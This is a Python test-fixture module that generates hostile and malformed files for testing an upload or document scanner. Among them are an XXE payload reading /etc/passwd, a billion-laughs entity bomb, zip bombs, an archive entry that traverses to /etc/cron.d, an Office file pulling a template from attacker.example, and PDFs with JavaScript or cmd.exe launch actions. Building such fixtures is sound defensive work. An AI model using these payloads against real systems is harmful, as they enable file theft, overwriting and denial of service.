"""Hostile and broken files, made when they are needed; none of them lies in the repository."""

import functools
import io
import struct
import zipfile
import zlib
from collections.abc import Mapping

import pikepdf
from PIL import Image

# put together when needed, so that no scanner takes this file for the test virus itself
EICAR = ("X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*").encode()
_CONTENT_TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
_WORDS = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'
_OUTSIDE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    'Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
)
XXE = b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]><d>&e;</d>'
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a0 "lol">'
    + b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10))
    + b"]><l>&a9;</l>"
)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"


@functools.cache
def archive(members: Mapping[str, bytes] | tuple[tuple[str, bytes], ...]) -> bytes:
    """A zip file of these members, named as they are."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in dict(members).items():
            made.writestr(name, content)
    return out.getvalue()


def program() -> bytes:
    """The head of a Windows program."""
    return b"MZ\x90\x00\x03" + b"\0" * 55 + b"\x80\0\0\0" + b"\0" * 64 + b"PE\0\0" + b"\0" * 400


def elf() -> bytes:
    """The head of a Linux program."""
    return b"\x7fELF\x02\x01\x01" + b"\0" * 400


def office(kind: str, *, macro: bool = False, outside: bool = False) -> bytes:
    """A document (``word``) or a workbook (``xl``), with a macro or with a template from elsewhere."""
    members = {"[Content_Types].xml": _CONTENT_TYPES.encode(), f"{kind}/document.xml": _WORDS.encode()}
    if macro:
        members[f"{kind}/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500
    if outside:
        members["word/_rels/settings.xml.rels"] = _OUTSIDE.encode()
    return archive(tuple(members.items()))


def nested_bomb() -> bytes:
    """Zip in zip in zip, at last a hundred megabytes of zeros."""
    content = archive((("zeros", b"\0" * (4 << 20)),))
    for depth in range(3):
        content = archive(tuple((f"{depth}-{number}.zip", content) for number in range(8)))
    return content


def overlapping_bomb() -> bytes:
    """A zip whose directory names the same compressed bytes under a hundred names."""
    once = archive((("zeros", b"\0" * (1 << 20)),))
    directory = once.index(b"PK\x01\x02")
    end = once.index(b"PK\x05\x06")
    entry = once[directory:end]
    entries = entry * 100
    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 100, 100, len(entries), directory, 0)
    return once[:directory] + entries + tail


def ofd(*, path: str = "OFD.xml") -> bytes:
    """An OFD package; another path for its document may lead out of it."""
    root = (
        '<?xml version="1.0" encoding="UTF-8"?><ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016" Version="1.0">'
        f"<ofd:DocBody><ofd:DocRoot>{path}</ofd:DocRoot></ofd:DocBody></ofd:OFD>"
    )
    return archive((("OFD.xml", root.encode()), ("../../../etc/cron.d/evil", b"x"), (path, b"<a/>")))


def picture(kind: str = "PNG", size: tuple[int, int] = (20, 20)) -> bytes:
    """A white picture."""
    out = io.BytesIO()
    Image.new("RGB", size, "white").save(out, kind)
    return out.getvalue()


def huge_picture(width: int = 60_000, height: int = 60_000) -> bytes:
    """A PNG of a few hundred bytes that says it is 60 000 points wide and high."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    data = zlib.compress(b"\0" * 1000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def pdf(what: str = "") -> bytes:
    """A PDF of one page, harmless or with the named thing inside."""
    out = io.BytesIO()
    locked = pikepdf.Encryption(owner="a", user="b") if what == "encrypted" else False
    with pikepdf.new() as document:
        if what != "no-pages":
            document.add_blank_page(page_size=(200, 200))
        name, make = pikepdf.Name, pikepdf.Dictionary
        script = make(S=name.JavaScript, JS="app.alert(1)")
        launch = make(S=name.Launch, F="cmd.exe")
        root = document.Root
        page = document.pages[0] if document.pages else root
        if what == "open-script":
            root.OpenAction = script
        elif what == "named-script":
            root.Names = make(JavaScript=make(Names=["a", script]))
        elif what == "launch":
            root.OpenAction = launch
        elif what == "launch-link":
            link = make(Type=name.Annot, Subtype=name.Link, Rect=[0, 0, 200, 200], A=launch)
            page.Annots = pikepdf.Array([document.make_indirect(link)])
        elif what == "script-link":
            link = make(Type=name.Annot, Subtype=name.Link, Rect=[0, 0, 200, 200], A=script)
            page.Annots = pikepdf.Array([document.make_indirect(link)])
        elif what == "page-action":
            page.AA = make(O=script)
        elif what == "embedded":
            document.attachments["setup.exe"] = pikepdf.AttachedFileSpec(document, program(), filename="setup.exe")
        elif what == "open-at-page":
            root.OpenAction = pikepdf.Array([page.obj, name.Fit])
        elif what == "invoice":
            document.attachments["e.xml"] = pikepdf.AttachedFileSpec(document, b"<invoice/>", filename="e.xml")
        elif what == "web-link":
            link = make(S=name.URI, URI="https://www.example.cn/")
            note = make(Type=name.Annot, Subtype=name.Link, Rect=[0, 0, 200, 200], A=link)
            page.Annots = pikepdf.Array([document.make_indirect(note)])
        elif what == "form-script":
            field = make(FT=name.Tx, T="a", AA=make(K=script), Type=name.Annot, Subtype=name.Widget, Rect=[0, 0, 9, 9])
            root.AcroForm = make(Fields=[document.make_indirect(field)])
            page.Annots = pikepdf.Array([root.AcroForm.Fields[0]])
        elif what == "xfa":
            root.AcroForm = make(Fields=[], XFA=document.make_stream(b"<xdp/>"))
        document.save(out, encryption=locked)
    return out.getvalue()
